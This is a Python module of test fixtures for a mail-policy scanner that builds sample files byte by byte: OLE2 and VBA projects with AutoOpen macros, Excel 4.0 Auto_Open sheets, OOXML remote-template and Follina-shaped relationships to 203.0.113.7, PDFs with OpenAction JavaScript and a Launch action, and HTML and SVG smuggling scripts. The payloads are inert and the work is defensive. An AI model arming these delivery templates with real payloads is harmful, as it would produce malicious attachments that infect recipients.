"""Inert files with active content, byte for byte, for the samples and the tests.

Every builder returns bytes and uses nothing but the standard library, so the sample
generator (``content_samples.py``) and the tests (``tests/content``) build the same
files: OLE2 compound files with a small writer of our own (olefile reads, it does not
write new files), VBA projects compressed as MS-OVBA says (literal tokens only: valid,
if not small), OOXML packages with ``zipfile``, PDFs by hand, HTML and SVG pages.

Nothing here runs: macros print a message box at most, JavaScript calls ``app.alert``,
the Launch action names ``calc.exe`` without arguments, smuggled "programs" are the PE
stub of the 2001 samples (a header and no code).
"""

# ruff: noqa: E501  (sample data: XML, PDF and HTML text kept on one line as it is written)
from __future__ import annotations

import base64
import io
import struct
import zipfile

_END, _FREE, _FATSECT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
_SECTOR, _MINI, _CUTOFF = 512, 64, 4096


# ---- OLE2 (MS-CFB, version 3) --------------------------------------------------------------
def _chain(fat: list[int], first: int, count: int) -> None:
    for i in range(count):
        fat[first + i] = first + i + 1 if i + 1 < count else _END


def ole_file(streams: dict[str, bytes]) -> bytes:
    """An OLE2 compound file holding ``streams`` (``"Macros/VBA/dir"``: storages are made
    for every path prefix). Streams under 4096 bytes go to the mini stream, as the format
    requires; siblings are chained through their right links (a valid, unbalanced tree)."""
    # the directory: root, then storages and streams in path order
    entries: list[dict[str, object]] = [{"name": "Root Entry", "type": 5, "kids": []}]
    index: dict[str, int] = {"": 0}
    for path in sorted(streams):
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            key = "/".join(parts[:depth])
            if key in index:
                continue
            index[key] = len(entries)
            is_stream = depth == len(parts)
            entries.append({"name": parts[depth - 1], "type": 2 if is_stream else 1, "kids": []})
            parent = entries[index["/".join(parts[: depth - 1])]]
            kids = parent["kids"]
            assert isinstance(kids, list)
            kids.append(index[key])
    mini = bytearray()
    minifat: list[int] = []
    big: list[tuple[int, bytes]] = []  # (entry, data) stored in regular sectors
    for path, data in streams.items():
        e = entries[index[path]]
        e["size"] = len(data)
        if len(data) < _CUTOFF:
            first = len(mini) // _MINI
            count = max(1, -(-len(data) // _MINI))
            e["start"] = first if data else _END
            if data:
                minifat.extend(range(first + 1, first + count))
                minifat.append(_END)
                mini += data + bytes(count * _MINI - len(data))
        else:
            big.append((index[path], data))
    # sector layout: FAT, directory, mini FAT, mini stream, big streams
    dir_bytes = len(entries) * 128
    n_dir = -(-dir_bytes // _SECTOR)
    n_minifat = -(-len(minifat) * 4 // _SECTOR) if minifat else 0
    n_mini = -(-len(mini) // _SECTOR)
    n_big = [-(-len(d) // _SECTOR) for _i, d in big]
    body = n_dir + n_minifat + n_mini + sum(n_big)
    n_fat = 1
    while n_fat * 128 < n_fat + body:
        n_fat += 1
    fat = [_FREE] * (n_fat * 128)
    for i in range(n_fat):
        fat[i] = _FATSECT
    pos = n_fat
    dir_start = pos
    _chain(fat, pos, n_dir)
    pos += n_dir
    minifat_start = pos if n_minifat else _END
    _chain(fat, pos, n_minifat)
    pos += n_minifat
    mini_start = pos if n_mini else _END
    _chain(fat, pos, n_mini)
    pos += n_mini
    for (entry, _data), count in zip(big, n_big, strict=True):
        entries[entry]["start"] = pos
        _chain(fat, pos, count)
        pos += count
    entries[0]["start"], entries[0]["size"] = mini_start, len(mini)
    # directory entries
    for e in entries:
        kids = e["kids"]
        assert isinstance(kids, list)
        e.setdefault("child", kids[0] if kids else _FREE)
        for a, b in zip(kids, kids[1:], strict=False):
            entries[a]["right"] = b
    raw_dir = bytearray()
    for e in entries:
        name = str(e["name"]).encode("utf-16-le") + b"\0\0"
        rec = bytearray(128)
        rec[: len(name)] = name
        struct.pack_into(
            "<HBBIII",
            rec,
            64,
            len(name),
            int(e["type"]),  # type: ignore[call-overload]
            1,
            _FREE,
            int(e.get("right", _FREE)),  # type: ignore[call-overload]
            int(e["child"]) if e["type"] != 2 else _FREE,  # type: ignore[call-overload]
        )
        struct.pack_into("<IQ", rec, 116, int(e.get("start", _END)), int(e.get("size", 0)))  # type: ignore[call-overload]
        raw_dir += rec
    raw_dir += bytes(n_dir * _SECTOR - len(raw_dir))
    hdr = bytearray(512)
    hdr[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", hdr, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", hdr, 44, n_fat)
    struct.pack_into("<IIIIIII", hdr, 48, dir_start, 0, _CUTOFF, minifat_start, n_minifat, _END, 0)
    difat = list(range(n_fat)) + [_FREE] * (109 - n_fat)
    struct.pack_into("<109I", hdr, 76, *difat)
    out = bytearray(hdr)
    out += struct.pack(f"<{len(fat)}I", *fat)
    out += raw_dir
    mf = struct.pack(f"<{len(minifat)}I", *minifat) if minifat else b""
    out += mf + b"\xff" * (n_minifat * _SECTOR - len(mf))
    out += mini + bytes(n_mini * _SECTOR - len(mini))
    for (_e, data), count in zip(big, n_big, strict=True):
        out += data + bytes(count * _SECTOR - len(data))
    return bytes(out)


# ---- VBA (MS-OVBA) ----------------------------------------------------------------------------
def ovba_compress(data: bytes) -> bytes:
    """MS-OVBA compression: whole 4096-byte chunks stored raw, the last one as literal
    tokens only (every flag byte 0): valid, if not small."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 4096):
        chunk = data[start : start + 4096]
        if len(chunk) == 4096:
            out += struct.pack("<H", 0x3FFF) + chunk
            continue
        body = bytearray()
        for i in range(0, len(chunk), 8):
            body.append(0)
            body += chunk[i : i + 8]
        if len(body) > 4096:
            raise ValueError("a last chunk this long needs real compression")
        out += struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body
    return bytes(out)


def _rec(rid: int, body: bytes) -> bytes:
    return struct.pack("<HI", rid, len(body)) + body


def vba_storage(modules: dict[str, str], prefix: str) -> dict[str, bytes]:
    """The streams of a VBA project (``prefix/VBA/dir`` and one stream per module, source
    at offset 0) for ``modules`` (name -> source)."""
    d = bytearray()
    d += _rec(0x0001, struct.pack("<I", 3))  # PROJECTSYSKIND: 64-bit Windows
    d += _rec(0x0002, struct.pack("<I", 0x409))  # PROJECTLCID
    d += _rec(0x0003, struct.pack("<H", 1252))  # PROJECTCODEPAGE
    d += _rec(0x0004, b"Project")  # PROJECTNAME
    d += struct.pack("<HII", 0x0009, 4, 0x65BE0257) + struct.pack("<H", 0x11)  # PROJECTVERSION
    d += _rec(0x000F, struct.pack("<H", len(modules)))  # PROJECTMODULES
    d += _rec(0x0013, struct.pack("<H", 0xFFFF))  # PROJECTCOOKIE
    for name in modules:
        d += _rec(0x0019, name.encode("latin-1"))  # MODULENAME
        d += _rec(0x001A, name.encode("latin-1"))  # MODULESTREAMNAME
        d += _rec(0x0032, name.encode("utf-16-le"))
        d += _rec(0x0031, struct.pack("<I", 0))  # MODULEOFFSET
        d += _rec(0x002B, b"")  # terminator
    d += _rec(0x0010, b"")
    base = f"{prefix}/VBA" if prefix else "VBA"
    out = {f"{base}/dir": ovba_compress(bytes(d)), f"{base}/_VBA_PROJECT": b"\xcc\x61" + bytes(5)}
    for name, source in modules.items():
        out[f"{base}/{name}"] = ovba_compress(source.encode("latin-1"))
    return out


AUTO_OPEN = 'Sub AutoOpen()\r\n    MsgBox "mailpolicy sample: a harmless macro"\r\nEnd Sub\r\n'
PLAIN_MACRO = "Sub FormatTable()\r\n    ' mailpolicy sample: runs only when asked\r\nEnd Sub\r\n"


def doc_with_macros(source: str = AUTO_OPEN) -> bytes:
    """A Word 97 ``.doc`` shape: a WordDocument stream and a ``Macros`` VBA project."""
    streams = {"WordDocument": b"\xec\xa5" + bytes(510), "1Table": bytes(64)}
    streams.update(vba_storage({"ThisDocument": "", "NewMacros": source}, "Macros"))
    return ole_file(streams)


def biff(records: list[tuple[int, bytes]]) -> bytes:
    return b"".join(struct.pack("<HH", rid, len(b)) + b for rid, b in records)


def xls_with_xlm(auto_open: bool = True) -> bytes:
    """An Excel 97 ``.xls`` shape whose workbook has a hidden Excel 4.0 macro sheet and,
    optionally, the built-in ``Auto_Open`` name."""

    def sheet(name: str, kind: int, hidden: int) -> bytes:
        return struct.pack("<IBB", 0, hidden, kind) + bytes([len(name), 0]) + name.encode()

    records = [
        (0x0809, bytes(16)),
        (0x0085, sheet("Sheet1", 0, 0)),
        (0x0085, sheet("Macro1", 1, 1)),
    ]
    if auto_open:
        label = struct.pack("<HBBHHH4s", 0x0020, 0, 1, 0, 0, 0, bytes(4)) + b"\x00\x01"
        records.append((0x0018, label))
    records.append((0x000A, b""))
    return ole_file({"Workbook": biff(records)})


def ole_package(name: str, payload: bytes) -> bytes:
    """An embedded OLE package (``\\x01Ole10Native``) carrying the file ``name``."""
    label = name.encode("latin-1") + b"\0"
    native = (
        struct.pack("<H", 2)
        + label
        + b"C:\\"
        + label
        + bytes(4)
        + struct.pack("<I", len(payload))
        + payload
    )
    return ole_file({"\x01Ole10Native": struct.pack("<I", len(native)) + native})


# ---- OOXML ---------------------------------------------------------------------------------
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, (2001, 7, 16, 9, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


def rels(*rows: tuple[str, str, bool]) -> bytes:
    """A relationships part: (type, target, external) rows."""
    out = [
        '<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    ]
    for i, (kind, target, external) in enumerate(rows, 1):
        mode = ' TargetMode="External"' if external else ""
        out.append(f'<Relationship Id="rId{i}" Type="{_REL_NS}/{kind}" Target="{target}"{mode}/>')
    return ("".join(out) + "</Relationships>").encode()


def ooxml(main: str, extra: list[tuple[str, bytes]], doc_rels: bytes | None = None) -> bytes:
    """A minimal OOXML package whose main part is ``main`` (``word/document.xml``)."""
    ct = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/></Types>'
    )
    folder, _, leaf = main.rpartition("/")
    members = [("[Content_Types].xml", ct), ("_rels/.rels", rels(("officeDocument", main, False)))]
    members.append((main, b'<?xml version="1.0"?><document>mailpolicy sample</document>'))
    if doc_rels is not None:
        members.append((f"{folder}/_rels/{leaf}.rels", doc_rels))
    return _zip(members + extra)


def docx_with_hyperlink() -> bytes:
    """An ordinary document: a style part and a web hyperlink (external, but a click)."""
    return ooxml(
        "word/document.xml",
        [("word/styles.xml", b"<styles/>")],
        rels(
            ("styles", "styles.xml", False),
            ("hyperlink", "https://www.example.ac.jp/minutes", True),
        ),
    )


def docx_remote_template() -> bytes:
    """Remote template injection: settings.xml.rels names an attachedTemplate on the web."""
    return ooxml(
        "word/document.xml",
        [
            ("word/settings.xml", b"<settings/>"),
            (
                "word/_rels/settings.xml.rels",
                rels(("attachedTemplate", "http://203.0.113.7/templates/report.dotm", True)),
            ),
        ],
        rels(("settings", "settings.xml", False)),
    )


def docx_follina() -> bytes:
    """The Follina shape (CVE-2022-30190): an oleObject relationship to an mhtml: URL."""
    return ooxml(
        "word/document.xml",
        [],
        rels(
            (
                "oleObject",
                "mhtml:http://203.0.113.7/index.html!x-usc:http://203.0.113.7/index.html",
                True,
            )
        ),
    )


def docm_with_macros(source: str = AUTO_OPEN) -> bytes:
    """A macro-enabled document: ``word/vbaProject.bin`` is an OLE VBA project."""
    project = ole_file(vba_storage({"ThisDocument": "", "NewMacros": source}, ""))
    return ooxml(
        "word/document.xml",
        [("word/vbaProject.bin", project)],
        rels(("vbaProject", "vbaProject.bin", False)),
    )


def xlsm_with_xlm() -> bytes:
    """An OOXML workbook with an Excel 4.0 macro sheet run by the Auto_Open name."""
    wb = b'<workbook><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>'
    return _zip(
        [
            ("[Content_Types].xml", b"<Types/>"),
            ("xl/workbook.xml", wb),
            ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
        ]
    )


# ---- PDF ---------------------------------------------------------------------------------------
def pdf_of(objects: list[bytes]) -> bytes:
    """A PDF 1.7 of ``objects`` (object 1 the catalog) with a correct xref table."""
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"


def pdf_with_links() -> bytes:
    """An ordinary PDF: a page with a web link annotation (/URI)."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>"
    link = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://www.example.ac.jp/) >> >>"
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", _PAGES, page, link])


def pdf_openaction_js() -> bytes:
    """/OpenAction runs a /JavaScript action (object 4) when the file opens."""
    js = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('mailpolicy sample'\\);) >>"
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", _PAGES, _PAGE, js])


def pdf_launch() -> bytes:
    """A page's /AA (open) runs a /Launch action, written with a #-escaped name."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA << /O 4 0 R >> >>"
    launch = b"<< /Type /Action /S /L#61unch /Win << /F (calc.exe) >> >>"
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", _PAGES, page, launch])


def pdf_embedded_file(name: str, payload: bytes) -> bytes:
    """A PDF carrying ``payload`` as an /EmbeddedFile in its name tree."""
    cat = (
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(%s) 4 0 R] >> >> >>"
        % name.encode()
    )
    spec = b"<< /Type /Filespec /F (%s) /EF << /F 5 0 R >> >>" % name.encode()
    stream = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (
        len(payload),
        payload,
    )
    return pdf_of([cat, _PAGES, _PAGE, spec, stream])


def pdf_js_in_object_stream() -> bytes:
    """PDF 1.5 object stream (/ObjStm, /FlateDecode) holding the /JavaScript action."""
    import zlib

    inner_obj = b"<< /S /JavaScript /JS (app.alert\\(1\\);) >>"
    header = b"6 0 "
    content = header + inner_obj
    packed = zlib.compress(content)
    objstm = (
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (
            len(header),
            len(packed),
            packed,
        )
    )
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", _PAGES, _PAGE, objstm])


# ---- HTML and SVG ------------------------------------------------------------------------------
def newsletter_html() -> bytes:
    """A newsletter: tables, links, an inline PNG logo as a data: URL, no script."""
    png = base64.b64encode(
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x02\x00\x00\x00"
        + bytes(64)
    ).decode()
    return (
        '<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Campus news, July</title></head>\n'
        f'<body><table><tr><td><img alt="logo" src="data:image/png;base64,{png}"></td></tr>\n'
        '<tr><td><a href="https://www.example.ac.jp/news">Read the news</a></td></tr></table></body></html>\n'
    ).encode()


def svg_logo() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
        b'<circle cx="32" cy="32" r="30" fill="#1d4e89"/><text x="16" y="38">MP</text></svg>\n'
    )


def erp_export_xls() -> bytes:
    """What ERP systems send as ``report.xls``: an HTML table that Excel opens."""
    rows = "".join(f"<tr><td>{i}</td><td>item {i}</td><td>{i * 100}</td></tr>" for i in range(1, 6))
    return f'<html><head><meta charset="utf-8"></head><body><table>{rows}</table></body></html>\n'.encode()


def smuggling_html(payload: bytes, name: str = "invoice.zip") -> bytes:
    """HTML smuggling: a base64 blob in the script, decoded and saved through a Blob."""
    b64 = base64.b64encode(payload).decode()
    half = len(b64) // 2
    return (
        "<html><body><p>Your document is downloading...</p><script>\n"
        f'var d = "{b64[:half]}" + "{b64[half:]}";\n'
        "var bin = atob(d); var a = new Uint8Array(bin.length);\n"
        "for (var i = 0; i < bin.length; i++) { a[i] = bin.charCodeAt(i); }\n"
        'var blob = new Blob([a], {type: "application/octet-stream"});\n'
        'var link = document.createElement("a"); link.href = URL.createObjectURL(blob);\n'
        f'link.download = "{name}"; link.click();\n</script></body></html>\n'
    ).encode()


def smuggling_svg(payload: bytes) -> bytes:
    """SVG smuggling: the blob in a data: URL the SVG's script opens."""
    b64 = base64.b64encode(payload).decode()
    return (
        '<svg xmlns="http://www.w3.org/2000/svg"><script type="text/javascript"><![CDATA[\n'
        f'window.location = "data:application/octet-stream;base64,{b64}";\n'
        "]]></script></svg>\n"
    ).encode()
